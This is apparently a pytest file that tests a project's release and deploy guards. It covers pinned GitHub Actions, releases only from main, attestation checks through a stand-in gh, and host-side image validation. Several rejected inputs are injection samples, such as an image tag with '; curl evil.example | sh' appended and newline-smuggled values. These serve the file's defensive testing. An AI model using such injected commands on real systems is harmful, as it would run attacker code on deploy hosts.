"""Only reviewed main reaches production: release guard, deploy checks, pinned actions.

Where a workflow step decides something (is this commit on main, is this image ours, did its
attestation verify), the step's own script runs here against a real git repository and a stand-in
``gh`` printing a recorded result of ``gh attestation verify --format json``.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.ops.validators import INSTALL_HINT, ROOT, clean_env
from tests.ops.workflows import WORKFLOWS, condition, git, run_script, step, workflow

REPO = "My-Org/rtep"  # upper case on purpose: GHCR paths are the lower-cased repository
REGISTRY_PATH = "ghcr.io/my-org/rtep"
DIGEST = "a" * 64


@pytest.fixture
def checkout(tmp_path: Path) -> dict[str, Any]:
    """A clone whose origin has main (two commits) and a branch off main that was never merged.

    Returns the clone's path and the commits: ``main`` (main's head), ``merged`` (main's first
    commit) and ``unmerged`` (the branch's commit), as actions/checkout with fetch-depth 0 leaves it.
    """
    upstream = tmp_path / "upstream"
    upstream.mkdir()
    git(upstream, "init", "-q", "-b", "main")
    git(upstream, "commit", "-q", "--allow-empty", "-m", "first")
    merged = git(upstream, "rev-parse", "HEAD")
    git(upstream, "commit", "-q", "--allow-empty", "-m", "second")
    main = git(upstream, "rev-parse", "HEAD")
    git(upstream, "checkout", "-q", "-b", "unreviewed", merged)
    git(upstream, "commit", "-q", "--allow-empty", "-m", "never merged")
    unmerged = git(upstream, "rev-parse", "HEAD")
    git(upstream, "tag", "v9.9.9")
    git(upstream, "checkout", "-q", "main")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(upstream), str(clone)], check=True)
    return {"path": clone, "main": main, "merged": merged, "unmerged": unmerged}


# --- every third-party action pinned by commit SHA ----------------------------------------------

_USES = re.compile(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$")
_PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
_VERSION_COMMENT = re.compile(r"^\s+# v\d+\.\d+\.\d+$")


def test_every_action_is_pinned_to_a_commit_sha_with_its_version() -> None:
    uses = []
    for path in sorted(WORKFLOWS.glob("*.yml")):
        for number, line in enumerate(path.read_text().splitlines(), 1):
            match = _USES.match(line)
            if match:
                uses.append((f"{path.name}:{number}", match.group(1), match.group(2)))
    assert len(uses) >= 10
    for where, ref, comment in uses:
        if ref.startswith("./"):
            continue  # a local action is this repository's own reviewed code
        assert _PINNED.match(ref), f"{where}: pin {ref} to a 40-hex commit SHA (# vX.Y.Z after it)"
        assert _VERSION_COMMENT.match(comment), f"{where}: name the version: `{ref} # vX.Y.Z`"


def test_dependabot_keeps_actions_and_the_python_lock_current() -> None:
    config = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text())
    updates = {(u["package-ecosystem"], u["directory"]) for u in config["updates"]}
    assert ("github-actions", "/") in updates
    assert ("pip", "/") in updates  # pyproject.toml and its hashed lock, requirements.txt


# --- releases only from reviewed main --------------------------------------------------------------


def test_release_runs_on_version_tags_and_manual_runs_on_main_only() -> None:
    release = workflow("release.yml")
    assert release["on"]["push"] == {"tags": ["v*.*.*"]}, "no branch pushes: tags only"
    assert set(release["on"]) == {"push", "workflow_dispatch"}
    guard = release["jobs"]["reviewed"]
    assert condition(guard) == (
        "(github.event_name == 'push' && startsWith(github.ref, 'refs/tags/v'))"
        " || (github.event_name == 'workflow_dispatch' && github.ref == 'refs/heads/main')"
    )
    checkout = step(guard, "actions/checkout")["with"]
    assert (checkout["ref"], checkout["fetch-depth"]) == ("main", 0)
    assert release["jobs"]["image"]["needs"] == "reviewed", "nothing is built before the guard"


def test_release_guard_refuses_a_commit_that_is_not_on_main(checkout: dict[str, Any]) -> None:
    """Scenario: a tag is pushed on a commit that never went through a pull request into main.

    We expect: the guard step fails naming the fix; a commit of main (head or older) passes.
    """
    script = step(workflow("release.yml")["jobs"]["reviewed"], "main's history")["run"]
    for commit in (checkout["main"], checkout["merged"]):
        result = run_script(script, {"GITHUB_SHA": commit}, checkout["path"])
        assert result.returncode == 0, result.stdout + result.stderr
    result = run_script(
        script,
        {"GITHUB_SHA": checkout["unmerged"], "GITHUB_REF": "refs/tags/v9.9.9"},
        checkout["path"],
    )
    assert result.returncode == 1
    assert "is not on main's history" in result.stdout
    assert "tag a commit of main" in result.stdout


# --- deploy: only images release.yml built from main, verified before anything runs ----------------


def test_deploy_accepts_only_successful_release_runs_of_main_and_rollbacks_from_main() -> None:
    deploy = workflow("deploy.yml")
    assert deploy["on"]["workflow_run"] == {"workflows": ["release"], "types": ["completed"]}
    verify = deploy["jobs"]["verify"]
    assert condition(verify) == (
        "(github.event_name == 'workflow_dispatch' && github.ref == 'refs/heads/main')"
        " || (github.event_name == 'workflow_run'"
        " && github.event.workflow_run.conclusion == 'success'"
        " && (github.event.workflow_run.path == '.github/workflows/release.yml'"
        " || startsWith(github.event.workflow_run.path, '.github/workflows/release.yml@'))"
        " && github.event.workflow_run.head_repository.full_name == github.repository"
        " && (github.event.workflow_run.event == 'push'"
        " || (github.event.workflow_run.event == 'workflow_dispatch'"
        " && github.event.workflow_run.head_branch == 'main')))"
    )
    # The run's head SHA: the image of that commit, whose attestation must name the same commit.
    image_env = step(verify, "image")["env"]
    attestation_env = step(verify, "attestation")["env"]
    for env in (image_env, attestation_env):
        assert env["RUN_SHA"] == "${{ github.event.workflow_run.head_sha }}"


def test_verification_job_holds_no_aws_role_and_the_deploy_job_needs_it() -> None:
    jobs = workflow("deploy.yml")["jobs"]
    verify, deploy = jobs["verify"], jobs["deploy"]
    assert "id-token" not in verify["permissions"], "verification runs without the deploy role"
    assert verify["outputs"]["image"] == "${{ steps.attestation.outputs.image }}"
    assert deploy["needs"] == "verify"
    assert deploy["environment"] == "production"
    assert deploy["permissions"]["id-token"] == "write"
    assert "if" not in deploy, "the deploy job runs only when verify ran and succeeded"
    steps = deploy["steps"]
    assert steps[0]["uses"].startswith("aws-actions/configure-aws-credentials@")
    # The only image the production job ever handles is the verified digest.
    images = [s["env"]["IMAGE"] for s in steps if "IMAGE" in s.get("env", {})]
    assert images == ["${{ needs.verify.outputs.image }}"]
    scripts = [s.get("run", "") for s in steps]
    put = next(i for i, s in enumerate(scripts) if "aws ssm put-parameter" in s)
    send = next(i for i, s in enumerate(scripts) if "aws ssm send-command" in s)
    assert put < send
    assert "AWS-RunShellScript" not in scripts[send], "the fixed rtep-deploy document, no shell"
    assert '--document-name "$SSM_DOCUMENT"' in scripts[send]
    assert "--parameters" not in scripts[send]


def _image_step(
    tmp_path: Path, event: str, **env: str
) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run deploy.yml's image step for ``event``; returns the result and what it output."""
    script = step(workflow("deploy.yml")["jobs"]["verify"], "Image to deploy")["run"]
    output = tmp_path / "github-output"
    output.write_text("")
    base = {"GITHUB_EVENT_NAME": event, "GITHUB_OUTPUT": str(output), "REPO": REPO}
    result = run_script(script, {**base, "INPUT_IMAGE": "", "RUN_SHA": "", **env}, ROOT)
    return result, output.read_text()


@pytest.mark.parametrize(
    "image",
    [
        f"{REGISTRY_PATH}:sha-0123456",
        f"{REGISTRY_PATH}:0.1.5",
        f"{REGISTRY_PATH}@sha256:{DIGEST}",
    ],
)
def test_rollback_accepts_an_image_of_this_repository(tmp_path: Path, image: str) -> None:
    result, written = _image_step(tmp_path, "workflow_dispatch", INPUT_IMAGE=image)
    assert result.returncode == 0, result.stdout + result.stderr
    assert written == f"image={image}\n"


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/someone-else/rtep:0.1.5",  # another repository's registry path
        "docker.io/my-org/rtep:0.1.5",  # another registry
        "ghcr.io/my-org/rtep-fork:0.1.5",  # a longer path sharing the prefix
        "ghcr.io/my-org/rtep/other:0.1.5",  # a sub-path
        "ghcr.io/my-org/rtep",  # no tag or digest
        "ghcr.io/my-org/rtep:latest",  # mutable
        "ghcr.io/my-org/rtep@sha256:abc",  # not a digest
        "ghcr.io/my-org/rtep:0.1.5; curl evil.example | sh",
        "ghcr.io/my-org/rtep:0.1.5\nghcr.io/evil/x:1",
    ],
)
def test_rollback_refuses_any_other_image(tmp_path: Path, image: str) -> None:
    result, written = _image_step(tmp_path, "workflow_dispatch", INPUT_IMAGE=image)
    assert result.returncode == 1
    assert "refusing image" in result.stdout and f"{REGISTRY_PATH}:<tag>" in result.stdout
    assert written == ""


def test_release_run_deploys_the_image_of_its_head_commit(tmp_path: Path) -> None:
    sha = "0123456789abcdef0123456789abcdef01234567"
    result, written = _image_step(
        tmp_path, "workflow_run", RUN_SHA=sha, INPUT_IMAGE="ghcr.io/evil/x:1"
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert written == f"image={REGISTRY_PATH}:sha-0123456\n"


def _fake_gh(directory: Path, results: list[dict[str, Any]] | None) -> Path:
    """A `gh` that checks the verification flags, then prints ``results`` (None: verify fails)."""
    directory.mkdir(exist_ok=True)
    recorded = directory / "results.json"
    recorded.write_text(json.dumps(results))
    gh = directory / "gh"
    signer = f"{REPO}/.github/workflows/release.yml"
    gh.write_text(
        "#!/usr/bin/env bash\n"
        'args=" $* "\n'
        f'[[ "$args" == *" attestation verify oci://"* ]] || exit 64\n'
        f'[[ "$args" == *" --repo {REPO} "* ]] || exit 64\n'
        f'[[ "$args" == *" --signer-workflow {signer} "* ]] || exit 64\n'
        '[[ "$args" == *" --deny-self-hosted-runners "* ]] || exit 64\n'
        '[[ "$args" == *" --format json "* ]] || exit 64\n'
        f'if [[ "$(cat {recorded})" == null ]]; then echo "verification failed" >&2; exit 1; fi\n'
        f"cat {recorded}\n"
    )
    gh.chmod(gh.stat().st_mode | stat.S_IXUSR)
    return directory


def _attested(
    source_commit: str, digest: str = DIGEST, ref: str = "refs/tags/v0.1.4"
) -> list[dict[str, Any]]:
    """What `gh attestation verify --format json` prints for one verified provenance attestation."""
    certificate = {"sourceRepositoryDigest": source_commit, "sourceRepositoryRef": ref}
    return [
        {
            "verificationResult": {
                "statement": {"subject": [{"name": REGISTRY_PATH, "digest": {"sha256": digest}}]},
                "signature": {"certificate": certificate},
            }
        }
    ]


def _attestation_step(
    checkout: dict[str, Any], results: list[dict[str, Any]] | None, **env: str
) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run deploy.yml's attestation step in ``checkout`` with a stand-in gh printing ``results``."""
    if shutil.which("jq") is None:
        pytest.fail(f"jq not on PATH (deploy.yml parses gh's JSON with it): {INSTALL_HINT}")
    script = step(workflow("deploy.yml")["jobs"]["verify"], "attestation")["run"]
    tools = _fake_gh(checkout["path"].parent / "bin", results)
    output = checkout["path"].parent / "output"
    output.write_text("")
    base = {
        "PATH": f"{tools}:{os.environ['PATH']}",
        "GITHUB_OUTPUT": str(output),
        "RUNNER_TEMP": str(checkout["path"].parent),
        "REPO": REPO,
        "RUN_SHA": "",
    }
    result = run_script(script, {**base, **env}, checkout["path"])
    return result, output.read_text()


def test_an_attested_image_built_from_main_is_deployed_by_digest(checkout: dict[str, Any]) -> None:
    image = f"{REGISTRY_PATH}:sha-{checkout['merged'][:7]}"
    result, written = _attestation_step(
        checkout, _attested(checkout["merged"]), IMAGE=image, RUN_SHA=checkout["merged"]
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert written == f"image={REGISTRY_PATH}@sha256:{DIGEST}\n"


def test_a_rollback_to_an_attested_image_of_main_is_deployed_by_digest(
    checkout: dict[str, Any],
) -> None:
    result, written = _attestation_step(
        checkout, _attested(checkout["merged"]), IMAGE=f"{REGISTRY_PATH}:0.1.4"
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert written == f"image={REGISTRY_PATH}@sha256:{DIGEST}\n"


def test_an_image_whose_attestation_fails_is_not_deployed(checkout: dict[str, Any]) -> None:
    """Scenario: the image has no attestation of release.yml (pushed by hand, or by a fork).

    We expect: gh's verification fails the step, and no image is handed to the deploy job.
    """
    result, written = _attestation_step(checkout, None, IMAGE=f"{REGISTRY_PATH}:0.1.4")
    assert result.returncode == 1
    assert written == ""


def test_an_image_built_from_an_unmerged_commit_is_not_deployed(checkout: dict[str, Any]) -> None:
    """Scenario: release.yml attested an image built from a commit that is not on main.

    We expect: the step fails naming the commit, and no image is handed to the deploy job.
    """
    result, written = _attestation_step(
        checkout, _attested(checkout["unmerged"]), IMAGE=f"{REGISTRY_PATH}:0.1.4"
    )
    assert result.returncode == 1
    assert f"built from {checkout['unmerged']}, which is not on main's history" in result.stdout
    assert written == ""


def test_a_release_run_whose_image_names_another_commit_is_not_deployed(
    checkout: dict[str, Any],
) -> None:
    result, written = _attestation_step(
        checkout,
        _attested(checkout["merged"]),
        IMAGE=f"{REGISTRY_PATH}:sha-{checkout['main'][:7]}",
        RUN_SHA=checkout["main"],
    )
    assert result.returncode == 1
    assert "not from the release run's commit" in result.stdout
    assert written == ""


def test_attestations_naming_two_images_are_refused(checkout: dict[str, Any]) -> None:
    results = _attested(checkout["merged"]) + _attested(checkout["merged"], "b" * 64)
    result, written = _attestation_step(checkout, results, IMAGE=f"{REGISTRY_PATH}:0.1.4")
    assert result.returncode == 1
    assert "more than one image digest or source commit" in result.stdout
    assert written == ""


@pytest.mark.parametrize("ref", ["refs/heads/main", "refs/tags/v0.1.4"])
def test_images_released_from_main_or_a_version_tag_pass(
    checkout: dict[str, Any], ref: str
) -> None:
    result, written = _attestation_step(
        checkout, _attested(checkout["merged"], ref=ref), IMAGE=f"{REGISTRY_PATH}:0.1.4"
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert written == f"image={REGISTRY_PATH}@sha256:{DIGEST}\n"


def test_an_image_release_yml_built_on_another_branch_is_not_deployed(
    checkout: dict[str, Any],
) -> None:
    """Scenario: someone runs a modified release.yml on a branch and it attests its image.

    We expect: refused for its ref, even were its commit on main's history.
    """
    result, written = _attestation_step(
        checkout,
        _attested(checkout["merged"], ref="refs/heads/unreviewed"),
        IMAGE=f"{REGISTRY_PATH}:0.1.4",
    )
    assert result.returncode == 1
    assert "not from main or a v* tag" in result.stdout
    assert written == ""


# --- the host runs only this repository's images --------------------------------------------------


def _rtep_sync(tmp_path: Path, image: str) -> tuple[subprocess.CompletedProcess[str], Path]:
    """Run terraform/templates/rtep-sync.sh with stand-in `aws` and `docker` and ``image`` set.

    The stand-in `aws` answers the SSM reads rtep-sync makes (no config files, an env, ``image``,
    no webhook); `docker` does nothing. Returns the result and the .env it would hand compose.
    """
    tools = tmp_path / "bin"
    tools.mkdir()
    (tmp_path / "image").write_text(image)
    fake_aws = (
        "#!/usr/bin/env bash\n"
        'case "$*" in\n'
        "  *get-parameters-by-path*) ;;\n"
        '  *"--name /rtep/env "*) echo "POSTGRES_PASSWORD=p" ;;\n'
        f'  *"--name /rtep/image "*) cat {tmp_path / "image"} ;;\n'
        '  *"get-parameters "*) echo None ;;\n'
        '  *) echo "unexpected aws $*" >&2; exit 64 ;;\n'
        "esac\n"
    )
    for name, body in (("aws", fake_aws), ("docker", "#!/usr/bin/env bash\nexit 0\n")):
        (tools / name).write_text(body)
        (tools / name).chmod(0o755)
    conf = tmp_path / "rtep.conf"
    conf.write_text(
        "RTEP_SSM_PREFIX=/rtep\nAWS_REGION=eu-west-1\nRTEP_REGISTRY_TOKEN_PARAMETER=\n"
        f"RTEP_POSTGRES_DATA=/var/lib/rtep-postgres/data\nRTEP_IMAGE_REPOSITORY={REGISTRY_PATH}\n"
    )
    env = {
        **clean_env(),
        "PATH": f"{tools}:{os.environ['PATH']}",
        "RTEP_CONF": str(conf),
        "RTEP_DIR": str(tmp_path / "opt"),
    }
    script = ROOT / "terraform" / "templates" / "rtep-sync.sh"
    result = subprocess.run(
        ["bash", str(script)], env=env, capture_output=True, text=True, timeout=60, check=False
    )
    return result, tmp_path / "opt" / ".env"


def test_host_runs_an_image_of_this_repository(tmp_path: Path) -> None:
    image = f"{REGISTRY_PATH}@sha256:{DIGEST}"
    result, env_file = _rtep_sync(tmp_path, image)
    assert result.returncode == 0, result.stderr
    assert env_file.read_text().splitlines() == [
        "POSTGRES_PASSWORD=p",
        f"RTEP_IMAGE={image}",
        "POSTGRES_DATA=/var/lib/rtep-postgres/data",
    ]


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/someone-else/rtep@sha256:" + DIGEST,
        "ghcr.io/my-org/rtep:latest-but-not\nRTEP_LOG_LEVEL=DEBUG",
        "ghcr.io/my-org/rtep",
    ],
)
def test_host_refuses_any_other_image(tmp_path: Path, image: str) -> None:
    """Scenario: someone with AWS access writes another image into /rtep/image and reloads.

    We expect: rtep-sync stops before writing .env, naming the registry path it accepts.
    """
    result, env_file = _rtep_sync(tmp_path, image)
    assert result.returncode == 1
    assert f"it must be {REGISTRY_PATH}:<tag> or @sha256:<digest>" in result.stderr
    assert not env_file.exists()
